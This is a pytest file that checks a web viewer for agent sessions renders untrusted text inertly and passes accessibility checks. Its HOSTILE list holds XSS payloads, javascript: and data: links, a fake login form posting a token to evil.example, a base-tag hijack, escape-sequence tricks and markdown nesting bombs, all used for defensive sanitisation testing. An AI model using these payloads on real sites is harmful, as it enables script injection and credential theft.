"""What agents quote from strangers is text and nothing else; and everybody can use the page."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

import pytest

from tests.live.up import Up, wait_until
from tests.needs import needs_axe, needs_browser
from tests.web.looks import faults

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = [needs_browser, pytest.mark.slow]

NewPage = Callable[..., "Page"]

HOSTILE = [
    "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'>",
    "![tracker](https://tracker.example/pixel.png) ![](data:image/svg+xml,<svg onload=alert(1)>)",
    "[click](javascript:window.hacked=1) [data](data:text/html,<script>1</script>) [local](/v1/tokens)",
    "<svg><animate onbegin='window.hacked=1' attributeName=x></svg><math><mtext><style><img src=x>",
    "<form action='https://evil.example'><input name=token><button>Log in</button></form>",
    "<div id=app style='position:fixed;inset:0;background:red'>over everything</div>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><base href='https://evil.example/'>",
    "\x1b]0;title\x07\x1b[31mred\x1b[0m and \u202edesrever\u202c and \u2066isolated",
    "[a]: https://evil.example 'x'\n\n[a] <https://evil.example> www.evil.example",
    "```html\n<script>window.hacked = 1</script>\n```",
    "> " * 5000 + "deep",
    "- " * 5000 + "deep",
    "\n".join("  " * depth + "- deeper" for depth in range(200)),
    "[" * 20_000 + "](" * 20_000,
    "*a_ " * 10_000,
    "`" * 10_000 + "x" + "`" * 9_999,
    "| a " * 3000 + "|\n" + "| - " * 3000 + "|\n",
    "x" * 250_000,
    "<a name=constructor id=__proto__ class='to-end'>clobber</a>",
    "&#x202e; &lt;script&gt; \u0000",
]


def test_nothing_of_strangers_runs_loads_or_stalls(up: Up, new_page: NewPage) -> None:
    said = []
    for number, text in enumerate(HOSTILE):
        content = [{"type": "text", "text": text}]
        frame: dict[str, Any] = {
            "type": "assistant",
            "parent_tool_use_id": None,
            "uuid": f"hostile-{number}",
            "message": {"id": f"m{number}", "role": "assistant", "content": content},
        }
        said.append("raw " + json.dumps(frame))
        tool = {"command": text[:2000], "file_path": text[:200]}
        said.append("tool Bash " + json.dumps(tool))
    session = up.new_session("\n".join(said), title="<b>\u202etitle")["id"]
    up.wait_state(session, "idle")
    up.prompt(session, "huge 1000000\nsay the end")
    up.wait_state(session, "idle")
    page = new_page()
    elsewhere: list[str] = []
    page.on("request", lambda r: elsewhere.append(r.url) if "//127.0.0.1:" not in r.url else None)
    page.on("dialog", lambda dialog: elsewhere.append(dialog.message))
    page.evaluate("id => { location.hash = `/session/${id}` }", session)
    page.get_by_text("the end", exact=True).last.wait_for()
    # The end stands there first, and all above it a few rows at a time.
    page.get_by_text("The beginning of this session.").wait_for(state="attached")
    page.evaluate("document.querySelectorAll('.summary').forEach((header) => header.click())")
    whole = page.get_by_role("button", name="Load all")
    assert whole.count() == 2
    whole.evaluate_all("buttons => buttons.forEach((button) => button.click())")
    wait_until(lambda: whole.count() == 0, "the whole messages came")
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("document.title") == "<b>\u202etitle · Holdover"
    inside = page.evaluate(
        """[...document.querySelectorAll('.view .row *')]
          .filter((e) => e.matches('script,style,svg,img,iframe,form,input,base,object,embed,math,[onerror]')
            || (e.closest('.md') && !e.matches('.md') && (e.id || e.className || e.getAttribute('style') || e.getAttribute('name'))))
          .map((e) => e.outerHTML.slice(0, 200))"""
    )
    assert inside == []
    links = page.evaluate("[...document.querySelectorAll('.view .md a[href]')].map((a) => a.href)")
    assert links
    assert all(link.startswith(("http://", "https://")) for link in links)
    assert not [link for link in links if "/v1/" in link]
    assert elsewhere == []
    text = page.locator(".view").inner_text()
    assert "\\u202edesrever" in text
    assert "\u202e" not in text
    assert "\x1b" not in text
    # The page still answers.
    page.get_by_role("button", name="Details").click()
    page.get_by_label("Title").wait_for(timeout=2000)


@needs_axe
def test_pages_have_no_serious_fault_on_a_phone_or_a_desk_by_day_or_night(
    up: Up, new_page: NewPage
) -> None:
    """Files, jobs, skills, tokens and instances are looked at where there are some."""
    session = up.new_session(
        "think hm\nsay # Title\nsay A [link](https://example.org), `code`, **bold**.\n"
        'tool Bash {"command": "ls"}\ntool Edit {"file_path": "/a", "old_string": "1", "new_string": "2"}'
    )["id"]
    up.wait_state(session, "idle")
    up.prompt(session, "ask 1")
    up.wait_state(session, "waiting")
    page = new_page()
    page.locator(".sessions a").first.wait_for()
    found = faults(page, "sessions")
    page.evaluate("location.hash = '/new'")
    page.get_by_role("heading", name="New session").wait_for()
    found += faults(page, "new")
    page.evaluate("location.hash = '/search'")
    page.get_by_label("Words of any message").fill("code")
    page.get_by_role("button", name="Search").click()
    page.locator(".sessions a").first.wait_for()
    found += faults(page, "search")
    page.evaluate("location.hash = '/phone'")
    page.get_by_role("img", name="QR code").wait_for()
    found += faults(page, "phone")
    page.evaluate("id => { location.hash = `/session/${id}` }", session)
    page.locator(".asking").wait_for()
    page.evaluate("document.querySelectorAll('.summary').forEach((header) => header.click())")
    found += faults(page, "session")
    page.get_by_role("button", name="Details").click()
    found += faults(page, "details")
    up.call("DELETE", f"/v1/sessions/{session}")
    page.evaluate("location.hash = '/'")
    page.get_by_role("button", name="Log out").click()
    page.get_by_label("Token", exact=True).wait_for()
    found += faults(page, "login")
    assert found == []
